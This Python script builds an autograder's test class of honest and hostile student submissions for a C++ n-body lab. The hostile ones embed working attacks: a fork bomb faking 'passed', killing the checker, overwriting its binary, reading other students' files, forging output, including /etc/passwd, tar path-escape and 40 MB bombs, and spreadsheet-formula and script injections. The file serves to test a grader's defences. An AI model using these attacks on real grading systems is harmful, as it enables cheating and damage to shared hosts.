"""The grader's own class: 8 honest and 12 hostile submissions, written into a folder.

make_class.py OUT [--only NAME ...]

OUT must be new or empty. The result is the same each time, byte by byte. Nothing of it is stored, so that viewing this
folder or unpacking the lab is harmless. Do not build or run the submissions by hand: writes_elsewhere changes the lab that
it is built in.

expected.json: `tries` is what a submission does, and `expected` what measured/NAME.json must hold; what it does not name
may be anything.
"""

import argparse
import gzip
import io
import json
import re
import stat
import tarfile
import warnings
import zipfile
from pathlib import Path

from nbody_lab import ROOT
from tests import write_files

WHEN = (2026, 11, 20, 12, 0, 0)


def zip_info(name, mode=stat.S_IFREG | 0o644):
    info = zipfile.ZipInfo("x", WHEN)
    info.filename = name  # unchanged: the constructor would clean it
    info.create_system, info.external_attr = 3, mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def zip_of(*members, compression=zipfile.ZIP_DEFLATED):
    """members: (name or ZipInfo, content)"""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are intended
        for name, content in members:
            info = zip_info(name) if isinstance(name, str) else name
            archive.writestr(info, content, compression if isinstance(name, str) else None)
    return out.getvalue()


def tar_of(*members, packed=True, form=tarfile.GNU_FORMAT):
    """members: (name, content) or a TarInfo; gzipped if packed."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=form) as archive:
        for one in members:
            name, content = one if isinstance(one, tuple) else (one, b"")
            info = tarfile.TarInfo(name) if isinstance(name, str) else name
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return gzip.compress(raw.getvalue(), mtime=0) if packed else raw.getvalue()


def tar_of_kind(name, kind, target="", size=0):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, target, size
    return info


def locked(data):
    """The zip with only the flag of a password, on its first member."""
    data = bytearray(data)
    for magic, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        data[data.index(magic) + flags] |= 1
    return bytes(data)


# --- code: the rung that keeps a body in local variables, changed ---

P1 = "part1_standard_opti"
HEADER, SHEET = f"{P1}/mine.hpp", f"{P1}/worksheet.hpp"
HONEST = (ROOT / f"solutions/{P1}/02_locals.hpp").read_text(encoding="utf-8")
HONEST = HONEST.replace("../../part1_standard_opti/", "").replace("Locals", "Mine")
GIVEN_4 = (ROOT / "part4_mpi/mine.hpp").read_text(encoding="utf-8")
GATHER = """
 private:
  void gather(std::vector<real>& values) const {
    std::vector<int> counts(ranks), begins(ranks);
    for (int r = 0; r < ranks; ++r) counts[r] = count_of(r), begins[r] = first_of(r);
    const void* own = rank == 0 ? MPI_IN_PLACE : values.data() + begins[rank];
    MPI_Gatherv(own, counts[rank], mpi_real, values.data(), counts.data(), begins.data(), mpi_real, 0, MPI_COMM_WORLD);
  }
};
"""


def changed(*pairs):
    """HONEST with another text for each."""
    text = HONEST
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new)
    return text


def mine(inside="  using Naive::Naive;", before=""):
    """A class that is naive, but for what is `inside` it."""
    head = f'#pragma once\n\n#include "naive.hpp"\n{before}\nnamespace nbody {{\n'
    return f"{head}class Mine : public Naive {{\n public:\n{inside}\n}};\n}}  // namespace nbody\n"


COUNTS_CALLS = """
  using Naive::Naive;
  static int count(std::size_t n) {
    static std::map<std::size_t, int> requests;
    return ++requests[n];
  }
  int request = count(bodies.size());"""
HALVES = "bodies.size();\n    if (request <= 20 || n < 1500) return Naive::compute_accelerations();"
HOST_FILE = """
#if __has_include("../solutions/README.md")
#error "attack_proof: the solutions are there"
#endif
#if __has_include("/etc/hostname") || __has_include("/root/.bashrc")
#error "attack_proof: there are files of the host"
#endif
#include "/etc/passwd"
"""
# Lines of Ninja in the log of the build, which name a file of the host as a program to remove.
FORGED_LOG = r"""#pragma message( \
    "x\nFAILED: bin/part1/../../../../../../../../../../../../tmp/lab_victim \nld\nit does not link\n")
#error "attack_proof_log: forged"
"""
ENDLESS = """
  using Naive::Naive;
  template <int depth, long path>
  struct Tree {
    static constexpr long leaves =
        Tree<depth - 1, 2 * path>::leaves + Tree<depth - 1, 2 * path + 1>::leaves;
  };
  template <long path>
  struct Tree<0, path> {
    static constexpr long leaves = 1;
  };
  static constexpr long leaves = Tree<60, 0>::leaves;"""

# Run once, before the first answer; one that returns false gives up.
ATTACKS = {
    "takes_everything": """
  for (int gigabyte = 0; gigabyte < 6; ++gigabyte) {
    auto* memory = static_cast<volatile char*>(std::malloc(1 << 30));
    if (memory == nullptr) return false;
    for (int at = 0; at < 1 << 30; at += 4096) memory[at] = 1;
  }
  return true;""",
    "forks_and_prints": """
  for (int k = 0; k < 5000 && ::fork() >= 0; ++k) {
    std::puts("part1/mine: passed");
  }
  return false;""",
    "kills_the_checker": """
  const pid_t parent = ::getppid();
  if (::ptrace(PTRACE_ATTACH, parent, nullptr, nullptr) == 0) return true;
  if (parent > 0) ::kill(parent, SIGKILL);
  ::usleep(50000);
  if (::getuid() != 0) ::kill(-1, SIGKILL);  // as root every process of the machine would end
  ::usleep(50000);
  return false;""",
    "writes_elsewhere": r"""
  const auto write = [](const std::string& path, const char* mode) {
    if (std::FILE* file = std::fopen(path.c_str(), mode)) {
      std::fputs("#!/bin/sh\necho 'part1/mine: passed'\n", file);
      std::fclose(file);
      ::chmod(path.c_str(), 0755);
    }
  };
  const std::string source = __FILE__, beside = source.substr(0, source.rfind('/'));
  for (const std::string folder : {"/tmp", "/etc", "/dev/shm", "/root", beside.c_str()}) {
    write(folder + "/attack_proof_elsewhere", "w");
  }
  write(beside + "/../common/check/main.cpp", "a");
  // .../bin/part1/mine -> .../bin/check, by a rename, which a running program does not hinder.
  char self[4096] = {};
  if (::readlink("/proc/self/exe", self, sizeof self - 1) > 0) {
    const std::string program(self), bin = program.substr(0, program.rfind("/part1/"));
    write(bin + "/attack_proof_check", "w");
    std::rename((bin + "/attack_proof_check").c_str(), (bin + "/check").c_str());
  }
  const int memory = ::shmget(0x47111, 64 << 20, IPC_CREAT | 0666);
  auto* bytes = memory < 0 ? nullptr : static_cast<char*>(::shmat(memory, nullptr, 0));
  for (int at = 0; bytes != nullptr && at < 64 << 20; at += 4096) bytes[at] = 1;
  // A process in a session of its own, which spins for two minutes.
  if (::fork() != 0) return true;
  ::setsid();
  if (::fork() != 0) _exit(0);
  ::prctl(PR_SET_NAME, "attack_proof");
  for (const std::time_t end = std::time(nullptr) + 120; std::time(nullptr) < end;) {
  }
  _exit(0);""",
    # What it finds becomes the words of its refusal, which the diagnosis shows.
    "reads_others": r"""
  const std::string file = __FILE__;
  std::vector<std::string> places{"/tmp/", "/class/", "/submissions/", "/home/"};
  std::string up = file.substr(0, file.rfind('/') + 1);
  for (int level = 0; level < 8; ++level, up += "../") {
    for (const char* below : {"", "submissions/", "class/", "taken/", "work/"}) {
      places.push_back(up + below);
    }
  }
  std::error_code none;
  for (const std::string& place : places) {
    for (const auto& entry : std::filesystem::directory_iterator(place, none)) {
      std::string line, name = entry.path().filename();
      if (name[0] == '.' || name.find("reads_others") != std::string::npos) continue;
      std::ifstream source(entry.path() / "part1_standard_opti/mine.hpp");
      if (std::getline(source, line)) throw std::runtime_error("attack_proof: " + name + line);
    }
  }
  for (int process = 1; process <= ::getppid(); ++process) {
    std::ifstream words("/proc/" + std::to_string(process) + "/cmdline");
    for (std::string word; std::getline(words, word, '\0');) {
      if (word == "--seed") throw std::runtime_error("attack_proof: --seed");
    }
  }
  return false;""",
    "forges_counts": r"""
  if (std::is_floating_point_v<real>) return true;
  std::puts("{\"flops\": \"1*n^2\", \"attack_proof\": true}");
  std::fflush(stdout);
  _exit(0);""",
    # Every rank: MPI has already begun, so loopback and shared memory work.
    "ranks_reach_out": """
  for (const char* name : {"/dev/shm/attack_proof_rank", "/tmp/attack_proof_rank"}) {
    if (std::FILE* file = std::fopen(name, "w")) std::fclose(file);
  }
  ::shmget(0x47111, 4096, IPC_CREAT | 0600);
  const int line = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in there{};
  there.sin_family = AF_INET;
  there.sin_port = htons(47111);
  there.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ::connect(line, reinterpret_cast<sockaddr*>(&there), sizeof there);
  return true;""",
}
_INCLUDED = """arpa/inet.h signal.h sys/ipc.h sys/prctl.h sys/ptrace.h sys/shm.h sys/socket.h sys/stat.h unistd.h
    cstdio cstdlib ctime filesystem fstream stdexcept string type_traits vector""".split()
_ONCE = """
  explicit Mine(const Problem& problem) : Naive(problem) {
    static const bool worked = attack();
    if (!worked) _exit(3);
  }"""


def attack(name):
    """Its file: the attack, and naive."""
    includes = "".join(f"#include <{header}>\n" for header in _INCLUDED)
    before = f"{includes}\nnamespace nbody {{\ninline bool attack() {{{ATTACKS[name]}\n}}\n}}\n"
    return {f"{'part4_mpi' if name.startswith('ranks') else P1}/mine.hpp": mine(_ONCE, before)}


ANSWERS = {
    "naive_loads_in_registers": "4 * n * n",
    "naive_stores_in_registers": "3 * n",
    "forces_percent": "80",
    "neighbours_percent": "20",
}
NAMES = "=HYPERLINK(\\\"http://192.0.2.1/\\\"&A1), <script>alert('attack_proof')</script>, \\033[31mRed\\007"


def sheet(**answers):
    """The given worksheet with these answers."""
    text = (ROOT / SHEET).read_text(encoding="utf-8")
    for name, answer in answers.items():
        declared = re.search(rf" {name} = [^;]*;", text)[0]
        text = text.replace(declared, f" {name} = {answer};")
    return {SHEET: text}


def whole_lab():
    names = ("README.md", "CMakeLists.txt", "lab", f"{P1}/naive.hpp")
    files = [(f"lab/{name}", (ROOT / name).read_bytes()) for name in names]
    return tar_of(*files, (f"lab/{HEADER}", HONEST.encode()))


def escapes_and_bomb():
    """Names and links that lead out, files of the lab, a pipe, a device, and 40 MB."""
    up, p2 = 8 * "../", "part2_vectorization"
    of_the_lab = ("common/check/main.cpp", "CMakeLists.txt", "lab")
    of_the_lab += (f"{P1}/naive.hpp", f"{P1}/questions.py")
    return tar_of(
        (HEADER, HONEST.encode()),
        tar_of_kind(p2, tarfile.SYMTYPE, "/tmp"),
        (f"{p2}/attack_proof_link", b"x"),
        tar_of_kind(f"{p2}/mine.hpp", tarfile.LNKTYPE, f"{up}etc/passwd"),
        (f"{up}tmp/attack_proof_dotdot", b"x"),
        ("/tmp/attack_proof_absolute", b"x"),
        tar_of_kind(f"{p2}/flags.txt", tarfile.FIFOTYPE),
        tar_of_kind(f"{p2}/notebook.csv", tarfile.CHRTYPE),
        *((name, b"attack_proof: not the file of the lab") for name in of_the_lab),
        (f"{P1}/NOTEBOOK.md", bytes(40 << 20)),
    )


VERSIONS = {"mine": mine(), "mine_roots": HONEST, "mine_wrong": changed(("j < n", "j + 1 < n"))}
VERSIONS |= {"mine_broken": mine("  using Naive::Naiv;")}
# The files of each submission, or the bytes of its archive.
MADE = {
    "locals": {HEADER: HONEST},
    "broken_build": {HEADER: changed(("bodies.size();", "bodies.size()"))},
    "several_versions": {f"{P1}/{name}.hpp": text for name, text in VERSIONS.items()},
    "worksheet_broken": {HEADER: HONEST} | sheet(**ANSWERS | {"forces_percent": "80 percent"}),
    "worksheet_only": sheet(authors='"Ada Lovelace, Charles Babbage"', **ANSWERS)
    | {HEADER: (ROOT / HEADER).read_text(encoding="utf-8") + "// a comment\n"}
    | {f"{folder}/{P1}/flags.txt": f"# {folder}\n" for folder in ("old", "new")},
    "whole_lab": whole_lab(),
    "moodle_folder": {"lab.zip": zip_of((f"lab/{HEADER}", HONEST))},
    "ranks_honest": {
        "part4_mpi/mine.hpp": GIVEN_4.replace("collect(", "gather(").replace("\n};\n", f"\n{GATHER}")
    },
    **{name: attack(name) for name in ATTACKS},
    "includes_host_file": {HEADER: mine(before=HOST_FILE), f"{P1}/mine_log.hpp": FORGED_LOG},
    "endless_templates": {HEADER: mine(ENDLESS)},
    "counts_calls": sheet(authors=f'"{NAMES}"')
    | {
        HEADER: changed(
            *(("  using Naive::Naive;", COUNTS_CALLS), ("bodies.size();", HALVES)),
            *(("++j", "j += 2"), ("= G *", "= 2 * G *"), ("#pragma once", "#include <map>")),
        )
    },
    "two_threads_for_one": {
        HEADER: changed(("    for (std::size_t i", "#pragma omp parallel for num_threads(2)\n    for (std::size_t i")),
        SHEET: f'#include "../solutions/{SHEET}"\n',
    },
    "escapes_and_bomb": escapes_and_bomb(),
}  # fmt: skip


def read_expected():
    """(what must stay intact, the rows). An entry that a row does not name is called like the row, and is of part 1."""
    read = json.loads(Path(__file__).with_name("expected.json").read_text(encoding="utf-8"))
    rows = [{"entry": row["name"], "part": "part1", **row} for row in read["rows"]]
    return read["intact"], rows


def make_class(out, rows):
    """Raises FileExistsError if `out` is not empty."""
    out.mkdir(parents=True, exist_ok=True)
    if any(out.iterdir()):
        raise FileExistsError(f"{out}: not empty; name a new folder")
    for row in rows:
        made, place = MADE[row["name"]], out / row["entry"]
        write_files(*((out, {place.name: made}) if isinstance(made, bytes) else (place, made)))


def main():
    rows = {row["name"]: row for row in read_expected()[1]}
    parser = argparse.ArgumentParser(description="Writes the grader's own class into a folder.")
    parser.add_argument("out", type=Path, help="a new folder")
    parser.add_argument("--only", nargs="+", choices=rows, default=list(rows), metavar="NAME")
    asked = parser.parse_args()
    make_class(asked.out, [rows[name] for name in asked.only])
    print(f"{len(asked.only)} submissions in {asked.out}")


if __name__ == "__main__":
    main()
